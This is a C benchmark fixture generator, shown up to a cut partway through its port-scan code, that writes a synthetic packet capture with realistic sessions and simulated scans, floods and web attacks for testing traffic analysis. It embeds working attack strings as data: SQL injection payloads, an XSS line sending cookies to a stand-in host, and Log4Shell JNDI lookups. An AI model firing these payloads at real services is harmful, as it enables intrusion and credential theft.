/* bench/gen_pcap.c: writes a large synthetic capture for bench/net.sh.
 *
 * usage: gen_pcap OUT.pcap [PACKETS] [FLOOD_SOURCES] [--mix]
 *
 * Default (issue 3's capture): ordinary TCP sessions between thousands of clients
 * (10.1.0.0/16) and 64 servers (192.0.2.0/26) on ports 80, 443, 22 and 3306 (handshake, data
 * both ways, close), with a SYN flood from FLOOD_SOURCES random spoofed sources against
 * 192.0.2.10:80 running through the middle third. 100,000 packets per second of capture
 * time, Ethernet, snap length 128, payloads of 'x'.
 *
 * --mix (issue 12's capture), snap length 1514 so every payload is whole, checksums right:
 * 256 concurrent sessions interleaved packet by packet, each with real sequence numbers and
 * plausible payloads written here: HTTP/1.1 GET and POST with Host, User-Agent and Cookie and
 * their responses (port 80), TLS 1.3 ClientHellos with SNI, the server's answer and
 * application data (443), SSH banners and KEXINITs (22), a MySQL handshake and queries
 * (3306), DNS queries and answers over UDP 53; and, through that traffic:
 *   - a port scan: 198.51.100.66 sends SYNs to 1,000 ports of 192.0.2.30 from the 10th to the
 *     15th percent of the capture; closed ports answer RST, open ones SYN-ACK (then RST);
 *   - the same SYN flood as the default mode, through the middle third;
 *   - a reflection flood against 192.0.2.99 (random ports) from 20,000 reflectors: NTP monlist
 *     replies (60%), DNS ANY answers (25%), memcached VALUE replies (15%), one packet in ten
 *     of the capture, from half way to 80%;
 *   - five HTTP requests from 203.0.113.45 carrying attacks (SQL injection in a URI and in a
 *     form body, cross-site scripting, Log4Shell in the User-Agent and in another header).
 * Deterministic: one seeded xorshift generator. Addresses are documentation and private
 * ranges; nothing is sent anywhere. */
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

static uint64_t rng = 0x9e3779b97f4a7c15ull;
static uint32_t rnd(void)
{
    rng ^= rng << 13;
    rng ^= rng >> 7;
    rng ^= rng << 17;
    return (uint32_t)rng;
}

static FILE *out;
static uint64_t t_us = 1795000000ull * 1000000;

static void put_u16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)(v >> 8), p[1] = (uint8_t)v; }
static void put_u32(uint8_t *p, uint32_t v) { put_u16(p, (uint16_t)(v >> 16)), put_u16(p + 2, (uint16_t)v); }

static void frame(uint32_t src, uint32_t dst, uint16_t sp, uint16_t dp, uint8_t flags, uint16_t payload)
{
    uint8_t f[128];
    memset(f, 0, 54);
    memcpy(f, "\x02\x00\x00\x00\x00\x01\x02\x00\x00\x00\x00\x02\x08\x00", 14);
    uint8_t *ip = f + 14, *tcp = f + 34;
    ip[0] = 0x45;
    put_u16(ip + 2, (uint16_t)(40 + payload));
    ip[8] = 64;
    ip[9] = 6;
    put_u32(ip + 12, src);
    put_u32(ip + 16, dst);
    put_u16(tcp, sp);
    put_u16(tcp + 2, dp);
    tcp[12] = 0x50;
    tcp[13] = flags;
    uint32_t wire = 54 + payload, cap = wire < 128 ? wire : 128;
    memset(f + 54, 'x', cap - 54);
    uint32_t hdr[4] = {(uint32_t)(t_us / 1000000), (uint32_t)(t_us % 1000000), cap, wire};
    fwrite(hdr, sizeof hdr, 1, out);
    fwrite(f, cap, 1, out);
    t_us += 10; /* 100,000 packets per second */
}

/* ---- --mix: a mixed capture with whole payloads ---- */

#define MIX_SNAP 1514
#define MSS 1460
#define POOL 256
#define MAXMSG 8
#define HEAD_MAX 1400
#define FILL 65536

/* A bounded byte writer: what does not fit is dropped (the templates here always fit). */
typedef struct {
    uint8_t *p;
    size_t n, cap;
} wb;

static void wb_u8(wb *w, uint32_t v)
{
    if (w->n < w->cap)
        w->p[w->n++] = (uint8_t)v;
}
static void wb_u16(wb *w, uint32_t v) { wb_u8(w, v >> 8), wb_u8(w, v); }
static void wb_u32(wb *w, uint32_t v) { wb_u16(w, v >> 16), wb_u16(w, v); }
static void wb_mem(wb *w, const void *s, size_t n)
{
    for (size_t i = 0; i < n; i++)
        wb_u8(w, ((const uint8_t *)s)[i]);
}
static void wb_str(wb *w, const char *s) { wb_mem(w, s, strlen(s)); }
static void wb_rand(wb *w, size_t n)
{
    for (size_t i = 0; i < n; i++)
        wb_u8(w, rnd());
}
static void wb_fmt(wb *w, const char *fmt, ...)
{
    char t[HEAD_MAX];
    va_list ap;
    va_start(ap, fmt);
    int k = vsnprintf(t, sizeof t, fmt, ap);
    va_end(ap);
    if (k > 0)
        wb_mem(w, t, (size_t)k < sizeof t ? (size_t)k : sizeof t - 1);
}
/* a length field of `bytes` bytes, filled in by wb_len_end with what was written since */
static size_t wb_len_begin(wb *w, int bytes)
{
    size_t at = w->n;
    for (int i = 0; i < bytes; i++)
        wb_u8(w, 0);
    return at;
}
static void wb_len_end(wb *w, size_t at, int bytes)
{
    size_t v = w->n - at - (size_t)bytes;
    for (int i = bytes - 1; i >= 0 && at + (size_t)i < w->cap; i--, v >>= 8)
        w->p[at + (size_t)i] = (uint8_t)v;
}

/* ---- packets ---- */

static uint16_t ip_id;

static uint32_t csum_add(uint32_t sum, const uint8_t *p, size_t n)
{
    for (size_t i = 0; i + 1 < n; i += 2)
        sum += (uint32_t)(p[i] << 8 | p[i + 1]);
    if (n & 1)
        sum += (uint32_t)p[n - 1] << 8;
    return sum;
}
static uint16_t csum_fold(uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

typedef struct {
    uint32_t src, dst;
    uint16_t sp, dp;
} ends;

/* One Ethernet/IPv4 frame with a TCP (proto 6) or UDP (17) header, checksums right. */
static void mix_packet(const ends *e, uint8_t proto, uint32_t seq, uint32_t ack, uint8_t flags, const uint8_t *pl,
                       uint32_t n)
{
    static uint8_t f[MIX_SNAP];
    uint32_t l4 = proto == 6 ? 20 : 8;
    if (n > MIX_SNAP - 34 - l4)
        n = MIX_SNAP - 34 - l4;
    memset(f, 0, 34 + l4);
    memcpy(f, "\x02\x00\x00\x00\x00\x01\x02\x00\x00\x00\x00\x02\x08\x00", 14);
    uint8_t *ip = f + 14, *h = f + 34;
    ip[0] = 0x45;
    put_u16(ip + 2, (uint16_t)(20 + l4 + n));
    put_u16(ip + 4, ip_id++);
    ip[6] = proto == 6 ? 0x40 : 0; /* DF */
    ip[8] = proto == 6 ? 64 : (uint8_t)(44 + (e->src & 15));
    ip[9] = proto;
    put_u32(ip + 12, e->src);
    put_u32(ip + 16, e->dst);
    put_u16(ip + 10, csum_fold(csum_add(0, ip, 20)));
    put_u16(h, e->sp);
    put_u16(h + 2, e->dp);
    if (proto == 6) {
        put_u32(h + 4, seq);
        put_u32(h + 8, ack);
        h[12] = 0x50;
        h[13] = flags;
        put_u16(h + 14, 64240);
    } else {
        put_u16(h + 4, (uint16_t)(8 + n));
    }
    if (n)
        memcpy(h + l4, pl, n);
    uint8_t pseudo[12];
    memcpy(pseudo, ip + 12, 8);
    pseudo[8] = 0, pseudo[9] = proto;
    put_u16(pseudo + 10, (uint16_t)(l4 + n));
    uint16_t c = csum_fold(csum_add(csum_add(0, pseudo, 12), h, l4 + n));
    put_u16(h + (proto == 6 ? 16 : 6), proto == 17 && c == 0 ? 0xffff : c);
    uint32_t wire = 34 + l4 + n;
    uint32_t hdr[4] = {(uint32_t)(t_us / 1000000), (uint32_t)(t_us % 1000000), wire, wire};
    fwrite(hdr, sizeof hdr, 1, out);
    fwrite(f, wire, 1, out);
    t_us += 10; /* 100,000 packets per second, as the default mode */
}

/* ---- message fillers: an HTML page's text, and bytes that look encrypted ---- */

static uint8_t fill_html[FILL], fill_rand[FILL];

static void fill_init(void)
{
    wb w = {fill_html, 0, FILL};
    wb_str(&w, "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>Example Shop</title>"
               "<link rel=\"stylesheet\" href=\"/static/site.css\"></head><body><ul class=\"items\">\n");
    for (unsigned i = 1; w.n < FILL; i++)
        wb_fmt(&w, "<li class=\"item\"><a href=\"/product/%u\">Product %u</a> <span class=\"price\">%u.99</span></li>\n",
               i * 7, i, 3 + i % 97);
    for (size_t i = 0; i < FILL; i++)
        fill_rand[i] = (uint8_t)rnd();
}

/* ---- sessions ---- */

enum { C2S = 0, S2C = 1 };
enum { BODY_NONE, BODY_HTML, BODY_RAND };
enum { ST_SYN, ST_SYNACK, ST_ACK, ST_DATA, ST_DACK, ST_FIN1, ST_ACK1, ST_FIN2, ST_ACK2, ST_DONE };

typedef struct {
    uint8_t dir, body_kind;
    uint16_t head_len;
    uint32_t body_len, body_off;
    uint8_t head[HEAD_MAX];
} msg;

typedef struct {
    ends c;            /* client to server */
    bool udp;
    uint8_t nmsg, cur, state, segs, last_dir;
    uint32_t seq[2], off;
    msg m[MAXMSG];
} sess;

/* A message of the session; write its head through the returned writer. */
static wb msg_add(sess *s, uint8_t dir, uint8_t body_kind, uint32_t body_len)
{
    msg *m = &s->m[s->nmsg < MAXMSG ? s->nmsg++ : MAXMSG - 1];
    m->dir = dir, m->body_kind = body_kind, m->head_len = 0;
    m->body_len = body_kind == BODY_NONE ? 0 : body_len < FILL / 2 ? body_len : FILL / 2;
    m->body_off = rnd() % (FILL / 2);
    return (wb){m->head, 0, HEAD_MAX};
}
static void msg_done(sess *s, const wb *w) { s->m[s->nmsg - 1].head_len = (uint16_t)w->n; }

static const char *const sites[] = {"www.example.com", "shop.example.com", "api.example.com", "static.example.net",
                                    "login.example.org", "cdn.example.net", "mail.example.com", "news.example.org"};
static const char *const agents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "curl/7.88.1", "python-requests/2.31.0"};
static const char *const paths[] = {"/", "/index.html", "/products?category=7&page=2", "/product/1234",
                                    "/static/site.css", "/static/app.js", "/api/v1/cart", "/images/logo.png",
                                    "/search?q=running+shoes", "/account/orders"};
#define PICK(a) (a[rnd() % (sizeof a / sizeof a[0])])

static void http_date(char *d, size_t n)
{
    time_t t = (time_t)(t_us / 1000000);
    struct tm tm;
    gmtime_r(&t, &tm);
    strftime(d, n, "%a, %d %b %Y %H:%M:%S GMT", &tm);
}

/* A request (a POST when body is given) with the headers a browser sends. */
static void http_request(sess *s, const char *method, const char *path, const char *host, const char *ua,
                         const char *body, const char *extra)
{
    wb w = msg_add(s, C2S, BODY_NONE, 0);
    wb_fmt(&w, "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\n", method, path, host, ua);
    wb_str(&w, "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
               "Accept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate\r\n");
    uint32_t r[6]; /* drawn in order: the order of a call's arguments is the compiler's */
    for (int i = 0; i < 6; i++)
        r[i] = rnd();
    wb_fmt(&w, "Cookie: sessionid=%08x%08x%08x%08x; _ga=GA1.2.%u.%u; lang=en\r\n%s", r[0], r[1], r[2], r[3],
           r[4] % 1000000000, 1700000000 + r[5] % 1000000, extra ? extra : "");
    if (body)
        wb_fmt(&w, "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %zu\r\n", strlen(body));
    wb_str(&w, "Connection: keep-alive\r\n\r\n");
    if (body)
        wb_str(&w, body);
    msg_done(s, &w);
}

static void http_response(sess *s, int code, uint32_t body_len)
{
    char d[64];
    http_date(d, sizeof d);
    wb w = msg_add(s, S2C, BODY_HTML, body_len);
    wb_fmt(&w, "HTTP/1.1 %d %s\r\nDate: %s\r\nServer: nginx/1.22.1\r\nContent-Type: text/html; charset=utf-8\r\n"
               "Content-Length: %u\r\nConnection: keep-alive\r\nCache-Control: private, max-age=0\r\n\r\n",
           code, code == 200 ? "OK" : "Forbidden", d, s->m[s->nmsg - 1].body_len);
    msg_done(s, &w);
}

static void http_session(sess *s)
{
    int reqs = 1 + (rnd() % 3 == 0);
    const char *host = PICK(sites), *ua = PICK(agents);
    for (int i = 0; i < reqs; i++) {
        if (rnd() % 7 == 0)
            http_request(s, "POST", "/account/login", host, ua, "username=jdoe&password=correct+horse&remember=1", NULL);
        else
            http_request(s, "GET", PICK(paths), host, ua, NULL, NULL);
        http_response(s, 200, 300 + rnd() % 12000);
    }
}

/* A handshake record's start up to the session id: record header (version 3.rec_minor),
 * handshake type, legacy version 1.2, random, a 32-byte session id. The two lengths are
 * filled in by wb_len_end(rec, 2) and wb_len_end(hs, 3). */
static void tls_hello_begin(wb *w, uint8_t rec_minor, uint8_t type, size_t *rec, size_t *hs)
{
    wb_u8(w, 0x16), wb_u8(w, 3), wb_u8(w, rec_minor);
    *rec = wb_len_begin(w, 2);
    wb_u8(w, type);
    *hs = wb_len_begin(w, 3);
    wb_u16(w, 0x0303);
    wb_rand(w, 32);
    wb_u8(w, 32);
    wb_rand(w, 32);
}

/* TLS 1.3 ClientHello as current browsers send it: SNI, groups, ALPN, key share. */
static void tls_client_hello(wb *w, const char *sni)
{
    static const uint16_t suites[] = {0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c, 0xc030, 0xcca9,
                                      0xcca8, 0xc013, 0xc014, 0x009c, 0x009d, 0x002f, 0x0035};
    static const uint16_t sigalgs[] = {0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601};
    size_t rec, hs;
    tls_hello_begin(w, 1, 1, &rec, &hs);
    wb_u16(w, sizeof suites);
    for (size_t i = 0; i < sizeof suites / 2; i++)
        wb_u16(w, suites[i]);
    wb_mem(w, "\x01\x00", 2);
    size_t ext = wb_len_begin(w, 2);
    wb_u16(w, 0x0000); /* server_name */
    size_t e = wb_len_begin(w, 2), l = wb_len_begin(w, 2);
    wb_u8(w, 0);
    wb_u16(w, (uint32_t)strlen(sni));
    wb_str(w, sni);
    wb_len_end(w, l, 2), wb_len_end(w, e, 2);
    wb_mem(w, "\x00\x17\x00\x00" "\xff\x01\x00\x01\x00", 9);          /* extended_master_secret, reneg */
    wb_mem(w, "\x00\x0a\x00\x0a\x00\x08\x00\x1d\x00\x17\x00\x18\x00\x19", 14); /* groups */
    wb_mem(w, "\x00\x0b\x00\x02\x01\x00" "\x00\x23\x00\x00", 10);     /* point formats, ticket */
    wb_mem(w, "\x00\x10\x00\x0e\x00\x0c\x02h2\x08http/1.1", 18);       /* ALPN */
    wb_mem(w, "\x00\x05\x00\x05\x01\x00\x00\x00\x00", 9);              /* status_request */
    wb_u16(w, 0x000d), wb_u16(w, 2 + sizeof sigalgs), wb_u16(w, sizeof sigalgs);
    for (size_t i = 0; i < sizeof sigalgs / 2; i++)
        wb_u16(w, sigalgs[i]);
    wb_mem(w, "\x00\x33\x00\x26\x00\x24\x00\x1d\x00\x20", 10); /* key_share: x25519 */
    wb_rand(w, 32);
    wb_mem(w, "\x00\x2d\x00\x02\x01\x01" "\x00\x2b\x00\x05\x04\x03\x04\x03\x03", 15); /* psk modes, versions */
    wb_len_end(w, ext, 2), wb_len_end(w, hs, 3), wb_len_end(w, rec, 2);
}

/* ServerHello, ChangeCipherSpec, and the header of the first encrypted record (its body
 * follows as the message's body). */
static void tls_server_hello(wb *w, uint32_t enc_len)
{
    size_t rec, hs;
    tls_hello_begin(w, 3, 2, &rec, &hs);
    wb_mem(w, "\x13\x01\x00", 3);
    size_t ext = wb_len_begin(w, 2);
    wb_mem(w, "\x00\x2b\x00\x02\x03\x04" "\x00\x33\x00\x24\x00\x1d\x00\x20", 14);
    wb_rand(w, 32);
    wb_len_end(w, ext, 2), wb_len_end(w, hs, 3), wb_len_end(w, rec, 2);
    wb_mem(w, "\x14\x03\x03\x00\x01\x01\x17\x03\x03", 9);
    wb_u16(w, enc_len);
}

static void tls_record(sess *s, uint8_t dir, uint32_t len)
{
    wb w = msg_add(s, dir, BODY_RAND, len);
    wb_mem(&w, "\x17\x03\x03", 3);
    wb_u16(&w, s->m[s->nmsg - 1].body_len);
    msg_done(s, &w);
}

static void tls_session(sess *s)
{
    wb w = msg_add(s, C2S, BODY_NONE, 0);
    tls_client_hello(&w, PICK(sites));
    msg_done(s, &w);
    uint32_t enc = 2000 + rnd() % 3000;
    w = msg_add(s, S2C, BODY_RAND, enc);
    tls_server_hello(&w, enc);
    msg_done(s, &w);
    int n = 1 + (int)(rnd() % 3);
    for (int i = 0; i < n; i++) {
        tls_record(s, C2S, 80 + rnd() % 600);
        tls_record(s, S2C, 200 + rnd() % 14000);
    }
}

/* SSH-2 binary packet holding a KEXINIT (RFC 4253 7.1) with OpenSSH-like name lists. */
static void ssh_kexinit(wb *w)
{
    static const char *const lists[] = {
        "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group16-sha512",
        "ssh-ed25519,ecdsa-sha2-nistp256,rsa-sha2-512,rsa-sha2-256",
        "chacha20-poly1305@openssh.com,aes128-ctr,aes256-ctr,aes256-gcm@openssh.com",
        "chacha20-poly1305@openssh.com,aes128-ctr,aes256-ctr,aes256-gcm@openssh.com",
        "umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-256",
        "umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-256",
        "none,zlib@openssh.com", "none,zlib@openssh.com", "", ""};
    size_t len = wb_len_begin(w, 4);
    size_t pad_at = w->n;
    wb_u8(w, 0);
    wb_u8(w, 20);
    wb_rand(w, 16);
    for (size_t i = 0; i < sizeof lists / sizeof lists[0]; i++) {
        wb_u32(w, (uint32_t)strlen(lists[i]));
        wb_str(w, lists[i]);
    }
    wb_mem(w, "\x00\x00\x00\x00\x00", 5);
    size_t pad = 8 - (w->n - len) % 8;
    if (pad < 4)
        pad += 8;
    w->p[pad_at] = (uint8_t)pad;
    wb_rand(w, pad);
    wb_len_end(w, len, 4);
}

static void ssh_session(sess *s)
{
    wb w = msg_add(s, S2C, BODY_NONE, 0);
    wb_str(&w, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n");
    msg_done(s, &w);
    w = msg_add(s, C2S, BODY_NONE, 0);
    wb_str(&w, "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6\r\n");
    ssh_kexinit(&w);
    msg_done(s, &w);
    w = msg_add(s, S2C, BODY_NONE, 0);
    ssh_kexinit(&w);
    msg_done(s, &w);
    for (int i = 0; i < 4; i++) {
        w = msg_add(s, (uint8_t)(i & 1), BODY_RAND, 48 + rnd() % (i & 1 ? 1200 : 300));
        msg_done(s, &w);
    }
}

/* MySQL packets: 3-byte length, sequence id, payload. */
static size_t my_begin(wb *w, uint8_t seq)
{
    size_t at = w->n;
    wb_mem(w, "\0\0\0", 3);
    wb_u8(w, seq);
    return at;
}
static void my_end(wb *w, size_t at)
{
    size_t n = w->n - at - 4;
    if (at + 2 < w->cap)
        w->p[at] = (uint8_t)n, w->p[at + 1] = (uint8_t)(n >> 8), w->p[at + 2] = (uint8_t)(n >> 16);
}
static void my_lenstr(wb *w, const char *s)
{
    wb_u8(w, (uint32_t)strlen(s));
    wb_str(w, s);
}

static void mysql_greeting(sess *s)
{
    wb w = msg_add(s, S2C, BODY_NONE, 0);
    size_t p = my_begin(&w, 0);
    wb_u8(&w, 10);
    wb_mem(&w, "8.0.36\0", 7);
    wb_u32(&w, rnd() % 100000);
    for (int i = 0; i < 8; i++)
        wb_u8(&w, 0x21 + rnd() % 90);
    wb_mem(&w, "\0\xff\xff\xff\x02\x00\xff\xdf\x15", 9);
    wb_mem(&w, "\0\0\0\0\0\0\0\0\0\0", 10);
    for (int i = 0; i < 12; i++)
        wb_u8(&w, 0x21 + rnd() % 90);
    wb_mem(&w, "\0caching_sha2_password\0", 23);
    my_end(&w, p);
    msg_done(s, &w);
}

static void mysql_login(sess *s)
{
    wb w = msg_add(s, C2S, BODY_NONE, 0);
    size_t p = my_begin(&w, 1);
    wb_mem(&w, "\x8d\xa6\xff\x01\x00\x00\x00\x01\xff", 9); /* capabilities, max packet, utf8mb4 */
    for (int i = 0; i < 23; i++)
        wb_u8(&w, 0);
    wb_mem(&w, "shop_app\0", 9);
    wb_u8(&w, 32);
    wb_rand(&w, 32);
    wb_mem(&w, "shop\0caching_sha2_password\0", 27);
    my_end(&w, p);
    msg_done(s, &w);
    w = msg_add(s, S2C, BODY_NONE, 0);
    wb_mem(&w, "\x07\x00\x00\x02\x00\x00\x00\x02\x00\x00\x00", 11);
    msg_done(s, &w);
}

static void mysql_query(sess *s, unsigned cat)
{
    static const char *const cols[] = {"id", "name", "price"};
    wb w = msg_add(s, C2S, BODY_NONE, 0);
    size_t p = my_begin(&w, 0);
    wb_fmt(&w, "\x03SELECT id, name, price FROM products WHERE category_id = %u ORDER BY name LIMIT 20", cat);
    my_end(&w, p);
    msg_done(s, &w);
    w = msg_add(s, S2C, BODY_NONE, 0);
    uint8_t seq = 1;
    p = my_begin(&w, seq++), wb_u8(&w, 3), my_end(&w, p);
    for (int i = 0; i < 3; i++) {
        p = my_begin(&w, seq++);
        my_lenstr(&w, "def"), my_lenstr(&w, "shop"), my_lenstr(&w, "products"), my_lenstr(&w, "products");
        my_lenstr(&w, cols[i]), my_lenstr(&w, cols[i]);
        wb_mem(&w, i == 1 ? "\x0c\xff\x00\x00\x04\x00\x00\xfd\x00\x00\x00\x00\x00"
                          : "\x0c\x3f\x00\x0b\x00\x00\x00\x03\x03\x42\x00\x00\x00", 13);
        my_end(&w, p);
    }
    int rows = 3 + (int)(rnd() % 12);
    for (int i = 0; i < rows; i++) {
        char id[16], name[40], price[16];
        snprintf(id, sizeof id, "%u", cat * 1000 + (unsigned)i);
        snprintf(name, sizeof name, "Product %u", cat * 1000 + (unsigned)i);
        snprintf(price, sizeof price, "%u.99", 3 + rnd() % 97);
        p = my_begin(&w, seq++), my_lenstr(&w, id), my_lenstr(&w, name), my_lenstr(&w, price), my_end(&w, p);
    }
    p = my_begin(&w, seq++), wb_mem(&w, "\xfe\x00\x00\x22\x00\x00\x00", 7), my_end(&w, p);
    msg_done(s, &w);
}

static void mysql_session(sess *s)
{
    mysql_greeting(s);
    mysql_login(s);
    int n = 1 + (int)(rnd() % 3);
    for (int i = 0; i < n; i++)
        mysql_query(s, 1 + rnd() % 40);
}

/* DNS (RFC 1035): a name as labels */
static void dns_name(wb *w, const char *name)
{
    while (*name) {
        size_t l = strcspn(name, ".");
        wb_u8(w, (uint32_t)l);
        wb_mem(w, name, l);
        name += l + (name[l] == '.');
    }
    wb_u8(w, 0);
}

static void dns_exchange(sess *s)
{
    const char *name = PICK(sites);
    uint16_t id = (uint16_t)rnd(), type = rnd() % 3 ? 1 : 28;
    wb w = msg_add(s, C2S, BODY_NONE, 0);
    wb_u16(&w, id), wb_mem(&w, "\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 10);
    dns_name(&w, name), wb_u16(&w, type), wb_u16(&w, 1);
    msg_done(s, &w);
    wb a = msg_add(s, S2C, BODY_NONE, 0);
    wb_u16(&a, id), wb_mem(&a, "\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00", 10);
    dns_name(&a, name), wb_u16(&a, type), wb_u16(&a, 1);
    wb_mem(&a, "\xc0\x0c", 2), wb_u16(&a, type), wb_u16(&a, 1), wb_u32(&a, 300);
    if (type == 1) {
        wb_u16(&a, 4), wb_u32(&a, 0xc6336400u | (rnd() & 0xff)); /* 198.51.100.x */
    } else {
        wb_u16(&a, 16), wb_mem(&a, "\x20\x01\x0d\xb8\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00", 14), wb_u16(&a, rnd());
    }
    msg_done(s, &a);
}

/* The five attack requests, each a session of its own from one attacker to 192.0.2.10. */
#define ATTACKER 0xcb00712du /* 203.0.113.45 */
#define WEB_ATTACKS 5
static void attack_session(sess *s, int k)
{
    static const char *const ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Gecko/20100101 Firefox/115.0";
    if (k == 0)
        http_request(s, "GET", "/products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
                     "shop.example.com", ua, NULL, NULL);
    else if (k == 1)
        http_request(s, "POST", "/account/login", "login.example.org", ua,
                     "username=admin%27%20OR%20%271%27%3D%271&password=x", NULL);
    else if (k == 2)
        http_request(s, "GET", "/search?q=%3Cscript%3Edocument.location%3D%27http://198.51.100.9/c?%27%2Bdocument.cookie%3C/script%3E",
                     "www.example.com", ua, NULL, NULL);
    else if (k == 3)
        http_request(s, "GET", "/", "api.example.com", "${jndi:ldap://198.51.100.23:1389/Exploit}", NULL, NULL);
    else
        http_request(s, "GET", "/api/v1/cart", "api.example.com", ua, NULL,
                     "X-Api-Version: ${${lower:j}ndi:${lower:r}mi://198.51.100.23/o}\r\n");
    http_response(s, k & 1 ? 200 : 403, 150);
}

static uint16_t eph_port = 32768;

static void sess_start(sess *s, int attack)
{
    memset(s, 0, sizeof *s);
    s->c.src = 0x0a010000u | (rnd() % 20000);
    s->c.dst = 0xc0000200u | (rnd() % 64);
    s->c.sp = eph_port++;
    if (eph_port > 60999)
        eph_port = 32768;
    s->seq[C2S] = rnd(), s->seq[S2C] = rnd();
    if (attack >= 0) {
        s->c.src = ATTACKER, s->c.dst = 0xc000020au, s->c.dp = 80;
        attack_session(s, attack);
        return;
    }
    uint32_t r = rnd() % 100;
    if (r < 35)
        s->c.dp = 80, http_session(s);
    else if (r < 70)
        s->c.dp = 443, tls_session(s);
    else if (r < 90)
        s->c.dst = 0xc0000235u, s->c.dp = 53, s->udp = true, s->state = ST_DATA, dns_exchange(s);
    else if (r < 95)
        s->c.dp = 22, ssh_session(s);
    else
        s->c.dp = 3306, mysql_session(s);
}

static ends sess_ends(const sess *s, uint8_t dir)
{
    return dir == C2S ? s->c : (ends){s->c.dst, s->c.src, s->c.dp, s->c.sp};
}

static void sess_tcp(sess *s, uint8_t dir, uint8_t flags, const uint8_t *pl, uint32_t n)
{
    ends e = sess_ends(s, dir);
    mix_packet(&e, 6, s->seq[dir], flags & 0x10 ? s->seq[!dir] : 0, flags, pl, n);
    s->seq[dir] += n + ((flags & 0x03) != 0); /* SYN and FIN take a sequence number */
}

/* The next segment of the current message. */
static void sess_data(sess *s)
{
    static uint8_t seg[MSS];
    msg *m = &s->m[s->cur];
    uint32_t total = m->head_len + m->body_len, n = 0;
    const uint8_t *body = (m->body_kind == BODY_HTML ? fill_html : fill_rand) + m->body_off;
    while (n < MSS && s->off + n < total) {
        uint32_t at = s->off + n;
        seg[n++] = at < m->head_len ? m->head[at] : body[at - m->head_len];
    }
    bool last = s->off + n == total;
    s->last_dir = m->dir;
    if (s->udp) {
        ends e = sess_ends(s, m->dir);
        mix_packet(&e, 17, 0, 0, 0, seg, n);
    } else {
        sess_tcp(s, m->dir, last ? 0x18 : 0x10, seg, n);
    }
    s->off += n;
    if (last)
        s->cur++, s->off = 0;
    if (s->udp)
        s->state = s->cur < s->nmsg ? ST_DATA : ST_DONE;
    else if (last || ++s->segs == 2)
        s->state = ST_DACK;
}

/* The session's next packet. */
static void sess_step(sess *s)
{
    switch (s->state) {
    case ST_SYN: sess_tcp(s, C2S, 0x02, NULL, 0), s->state = ST_SYNACK; break;
    case ST_SYNACK: sess_tcp(s, S2C, 0x12, NULL, 0), s->state = ST_ACK; break;
    case ST_ACK: sess_tcp(s, C2S, 0x10, NULL, 0), s->state = ST_DATA; break;
    case ST_DATA: sess_data(s); break;
    case ST_DACK:
        sess_tcp(s, (uint8_t)!s->last_dir, 0x10, NULL, 0);
        s->segs = 0;
        s->state = s->cur < s->nmsg ? ST_DATA : ST_FIN1;
        break;
    case ST_FIN1: sess_tcp(s, C2S, 0x11, NULL, 0), s->state = ST_ACK1; break;
    case ST_ACK1: sess_tcp(s, S2C, 0x10, NULL, 0), s->state = ST_FIN2; break;
    case ST_FIN2: sess_tcp(s, S2C, 0x11, NULL, 0), s->state = ST_ACK2; break;
    default: sess_tcp(s, C2S, 0x10, NULL, 0), s->state = ST_DONE; break;
    }
}

/* ---- the attacks beside the sessions ---- */

/* a random public address: not 0/8, 10/8 or multicast and above */
static uint32_t public_addr(uint32_t a)
{
    if ((a >> 24) == 10 || (a >> 24) == 0 || (a >> 24) >= 224)
        a ^= 0x40000000u;
    return a;
}

#define SCANNER 0xc6336442u /* 198.51.100.66 */
#define SCANNED 0xc000021eu /* 192.0.2.30 */
#define SCAN_PORTS 1000

typedef struct {
    uint16_t ports[1024];
    int next, step;
    uint32_t seq;
} scan_state;

static void scan_init(scan_state *sc)
{
    for (int i = 0; i < 1024; i++)
        sc->ports[i] = (uint16_t)(i + 1);
    for (int i = 1023; i > 0; i--) {
        int j = (int)(rnd() % (uint32_t)(i + 1));
        uint16_t t = sc->ports[i];
        sc->ports[i] = sc->ports[j], sc->ports[j] = t;
    }
    sc->next = 0, sc->step = 0, sc->seq = rnd();
}

/* One scan packet: SYN; then RST-ACK from a closed port, or SYN-ACK and the scanner's RST. */
static void scan_step(scan_state *sc)
{
    uint16_t p = sc->ports[sc->next];
    bool open = p == 22 || p == 80 || p == 443 || p == 3306;
    ends to = {SCANNER, SCANNED, 54321, p}, back = {SCANNED, SCANNER, p, 54321};
    if (sc->step == 0)
        mix_packet(&to, 6, sc->seq, 0, 0x02, NULL, 0);
    else if (sc->step == 1)
        mix_packet(&back, 6, open ? 0x5eed0000u + p : 0, sc->seq + 1, open ? 0x12 : 0x14, NULL, 0);
    else
        mix_packet(&to, 6, sc->seq + 1, 0, 0x04, NULL, 0);
